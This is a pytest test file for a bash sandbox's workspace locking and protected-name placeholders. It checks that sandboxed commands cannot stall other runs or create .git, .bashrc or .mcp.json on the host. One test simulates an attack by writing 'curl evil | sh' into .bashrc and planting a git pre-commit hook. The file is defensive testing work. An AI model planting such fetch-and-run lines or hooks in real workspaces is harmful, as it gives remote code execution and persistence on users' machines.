"""The workspace directory's lock against a process that holds it (docs/security.md,
"Placeholders and concurrent runs").

Callers of different state directories order their placeholders through a shared `flock` on
the workspace directory itself. Any process that can open the workspace can hold that lock
exclusively, but no command of a sandbox whose run holds a share of it. A run whose protected
names are emulated (test_fs_names.py) only tries the lock, never waits for it, and stays safe
without it; a run on the placeholder fallback goes on without it after a bounded wait, leaves
its placeholders to a later run, and still cannot create a protected name.

The holder here is the test process itself, through an open file description of its own (as
another process of the workspace's user would; flock locks are per open file description).
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import shutil
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from placeholderkit import isolated_state_dir, journals, present

from codeward.sandbox import NativeBashSandbox
from protectednames import ALL_PROTECTED

# A caller of its own (strace follows it): a one-shot run, then a long-lived sandbox of another
# state directory for two commands. Prints what each command answered.
CALLER = textwrap.dedent(
    """
    import json, os, sys
    from codeward.sandbox import NativeBashSandbox
    ws, other_state = sys.argv[1], sys.argv[2] + "/other-state"
    results = []
    def record(out):
        results.append([out.exit_code, out.stdout, out.setup_error, out.timed_out])
    record(NativeBashSandbox(ws, reuse=False).exec(
        "echo one > one-shot; cat one-shot; mkdir .git 2>/dev/null || echo refused"))
    os.environ["XDG_STATE_HOME"] = other_state  # read when the sandbox is built
    with NativeBashSandbox(ws, reuse=True) as sb:
        record(sb.exec("echo two > long-lived; cat long-lived"))
        record(sb.exec("echo '{}' > .mcp.json 2>/dev/null || echo refused"))
    print(json.dumps(results))
    """
)


@pytest.fixture
def ws(fs_host_dir: Path) -> Path:
    path = fs_host_dir / "ws"
    path.mkdir()
    (path / "README").write_text("workspace\n")
    return path


@pytest.fixture
def state_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return isolated_state_dir(tmp_path, monkeypatch)


@pytest.fixture
def emulated(fs_names_emulated: bool) -> None:
    if not fs_names_emulated:
        pytest.skip("this kernel keeps protected names missing with placeholders")


def _fallback(ws: Path, monkeypatch: pytest.MonkeyPatch, **kw) -> NativeBashSandbox:
    with monkeypatch.context() as env:  # read when the sandbox is built
        env.setenv("A3S_CODE_PROTECT_NAMES", "placeholders")
        return NativeBashSandbox(ws, **kw)


@contextlib.contextmanager
def _holding_the_lock(ws: Path) -> Iterator[None]:
    """The workspace directory's lock, held exclusively for the block."""
    fd = os.open(ws, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)  # no run holds a share now
        yield
    finally:
        os.close(fd)


@pytest.mark.parametrize("names", ["emulated", "fallback"])
def test_a_command_cannot_take_the_lock_its_own_run_holds_a_share_of(
    names, ws, state_dir, fs, monkeypatch, fs_names_emulated
):
    """What keeps a command from stalling other runs through this lock, either way: while its
    run holds a share (it got one: nothing held the lock exclusively when it started), it
    cannot hold the lock exclusively."""
    if names == "emulated" and not fs_names_emulated:
        pytest.skip("this kernel keeps protected names missing with placeholders")
    sb = _fallback(ws, monkeypatch) if names == "fallback" else NativeBashSandbox(ws)
    with sb:
        for _ in range(2):  # the long-lived sandbox's share lasts across its commands
            out = fs.run(sb, "flock -x -n . true && echo took || echo cannot")
            assert out.stdout == "cannot\n", out


def test_runs_with_emulated_names_never_wait_for_a_lock_another_process_holds(
    ws, state_dir, tmp_path, emulated
):
    """A one-shot run and a long-lived sandbox of another state directory run, with the names
    protected, while the lock is held: strace shows that each tried it once, without waiting."""
    if not shutil.which("strace"):
        pytest.fail("strace is a test dependency (ci/install-deps.sh)")
    trace = tmp_path / "trace"
    with _holding_the_lock(ws):
        # -b execve: the trace leaves each child at its exec (bubblewrap), keeps the caller
        strace = ["strace", "-f", "-b", "execve", "-qq", "-y", "-e", "trace=flock"]
        caller = subprocess.run(
            [*strace, "-o", str(trace), sys.executable, "-c", CALLER, str(ws), str(tmp_path)],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    assert caller.returncode == 0, caller.stderr
    results = json.loads(caller.stdout.splitlines()[-1])
    assert results == [
        [0, "one\nrefused\n", None, False],
        [0, "two\n", None, False],
        [0, "refused\n", None, False],
    ]
    flocks = trace.read_text().splitlines()
    assert flocks, "strace recorded no flock at all: the trace does not see the caller"
    tries = [line for line in flocks if f"<{os.path.realpath(ws)}>" in line]
    assert len(tries) == 2, tries  # one per run, none waiting
    assert all("LOCK_SH|LOCK_NB) = -1 EAGAIN" in line for line in tries), tries
    assert present(ws) == []


def test_runs_on_the_fallback_go_on_without_a_lock_another_process_holds(
    ws, state_dir, fs, tmp_path, monkeypatch
):
    """On the fallback the run needs a share for its placeholders: it waits a bounded time,
    goes on without it, keeps the names protected, and is never alone, so its placeholders
    stay (journaled) until a run after the holder has let go removes them. A one-shot run and
    a long-lived sandbox of another state directory (which binds them as present)."""
    with _holding_the_lock(ws):
        out = fs.run(
            _fallback(ws, monkeypatch, reuse=False),
            "mkdir -p .git/hooks 2>/dev/null || echo refused; echo x > README; cat README",
        )
        assert out.stdout == "refused\nx\n", out
        with monkeypatch.context() as env:
            env.setenv("XDG_STATE_HOME", str(tmp_path / "other-state"))
            other = _fallback(ws, monkeypatch, reuse=True)
        with other:
            for _ in range(2):
                out = fs.run(other, "echo '{}' > .mcp.json 2>/dev/null || echo refused")
                assert out.stdout == "refused\n", out
        assert present(ws) == sorted(ALL_PROTECTED), "not alone, yet they were removed"
        assert journals(state_dir, handed_over=True), "the one-shot run's are not journaled"
    fs.run(_fallback(ws, monkeypatch, reuse=False), "true")  # of the one-shot run's state dir
    assert present(ws) == []
    assert journals(state_dir, handed_over=True) == []


def test_a_run_with_emulated_names_leaves_journaled_placeholders_while_the_lock_is_held(
    ws, state_dir, fs, monkeypatch, emulated
):
    """Journaled placeholders of an earlier run on the fallback: a run with emulated names of
    the same state directory removes them only when it is alone, which a holder of the lock
    keeps it from being (another caller may have them bound); the first run after it has let
    go removes them."""
    with _holding_the_lock(ws):
        out = fs.run(_fallback(ws, monkeypatch, reuse=False), "true")
        assert present(ws) == sorted(ALL_PROTECTED), "not alone, yet it removed them"
        assert len(journals(state_dir, handed_over=True)) == 1
        out = fs.run(NativeBashSandbox(ws, reuse=False), "mkdir .git 2>/dev/null || echo refused")
        assert out.stdout == "refused\n", out
        assert present(ws) == sorted(ALL_PROTECTED), "removed under a held lock"
        assert len(journals(state_dir, handed_over=True)) == 1
    fs.run(NativeBashSandbox(ws, reuse=False), "true")
    assert present(ws) == []
    assert journals(state_dir, handed_over=True) == []


def test_found_placeholders_may_go_under_a_run_without_a_share_yet_names_stay_protected(
    ws, state_dir, tmp_path, fs, monkeypatch, emulated
):
    """A run with emulated names that started while the lock was held has no share of it, so
    it does not stop a caller on the fallback (of another state directory) from finding itself
    alone and removing the placeholders the run had bound as present, which detaches them in
    it. The run must still be unable to create those names: it keeps them missing as well."""
    result: dict[str, object] = {}
    with _holding_the_lock(ws):
        fs.run(_fallback(ws, monkeypatch, reuse=False), "true")  # leaves them (not alone)
        assert present(ws) == sorted(ALL_PROTECTED)
        with monkeypatch.context() as env:
            env.setenv("XDG_STATE_HOME", str(tmp_path / "other-state"))
            second = NativeBashSandbox(ws, reuse=True)  # names emulated, no share
        command = (
            "test -d .gitmodules && echo bound; touch started; "
            "for i in $(seq 1500); do [ -e .gitmodules ] || break; sleep 0.02; done; "
            "test -e .gitmodules || echo gone; echo 'curl evil | sh' > .bashrc; "
            "mkdir -p .git/hooks; printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; "
            "echo '{}' > .mcp.json; echo ATTEMPTED"
        )
        thread = threading.Thread(
            target=lambda: result.setdefault("out", second.exec(command, timeout_ms=60_000))
        )
        thread.start()
        deadline = time.monotonic() + 30
        while not (ws / "started").exists() and thread.is_alive():
            assert time.monotonic() < deadline, "the command never started"
            time.sleep(0.02)
    # a run of the first state directory: alone, it removes what was left to it
    fs.run(NativeBashSandbox(ws, reuse=False), "true")
    thread.join()
    second.close()
    out = result["out"]
    assert out.stdout == "bound\ngone\nATTEMPTED\n", out  # type: ignore[attr-defined]
    planted = [n for n in (".bashrc", ".git", ".mcp.json") if os.path.lexists(ws / n)]
    assert planted == [], f"the run planted {planted} on the host: {out}"
    assert present(ws) == [], "not alone: something held a share of the lock"


@pytest.mark.parametrize("names", ["emulated", "fallback"])
def test_a_command_holding_a_visible_state_directorys_lock_cannot_stall_a_run(
    names, ws, fs_host_dir, fs, tmp_path, monkeypatch, fs_names_emulated
):
    """A state directory outside the homes (an XDG_STATE_HOME elsewhere) is visible, read-only,
    in every sandbox, so a command of a sandbox of another state directory can open its lock
    file and hold it exclusively. A run of that state directory takes that lock as it takes the
    workspace directory's: it goes on without it (it waited forever for it before)."""
    if names == "emulated" and not fs_names_emulated:
        pytest.skip("this kernel keeps protected names missing with placeholders")
    state = fs_host_dir / "state"  # outside every tree the sandbox masks
    state.mkdir(mode=0o700)
    monkeypatch.setenv("XDG_STATE_HOME", str(state))

    def run(command: str):
        sb = _fallback(ws, monkeypatch, reuse=False) if names == "fallback" else None
        return fs.run(sb or NativeBashSandbox(ws, reuse=False), command)

    run("true")  # makes the lock file
    (lock,) = state.glob("codeward/placeholders-*-lock")
    with monkeypatch.context() as env:
        env.setenv("XDG_STATE_HOME", str(tmp_path / "holder-state"))
        env.delenv("A3S_CODE_PROTECT_NAMES", raising=False)
        holder = NativeBashSandbox(ws, reuse=True)
    hold = f"exec flock -x {lock} sh -c 'touch held; until [ -e release ]; do sleep 0.02; done'"
    results: dict[str, object] = {}
    holding = threading.Thread(target=lambda: results.setdefault("hold", holder.exec(hold)))
    holding.start()
    try:
        deadline = time.monotonic() + 30
        while not (ws / "held").exists():
            assert holding.is_alive(), results
            assert time.monotonic() < deadline, "the holder never took the lock"
            time.sleep(0.02)
        running = threading.Thread(
            target=lambda: results.setdefault("run", run("mkdir .git 2>/dev/null || echo refused"))
        )
        running.start()
        running.join(60)  # generous: it takes well under a second
        assert not running.is_alive(), "the run waits for the lock the command holds"
    finally:
        (ws / "release").touch()
        holding.join(60)
        holder.close()
    assert results["run"].stdout == "refused\n", results  # type: ignore[attr-defined]
    assert results["hold"].exit_code == 0, results  # type: ignore[attr-defined]
    (ws / "release").unlink()
    (ws / "held").unlink()
    run("true")  # alone now: removes what the run without the lock left to a later one
    assert present(ws) == []
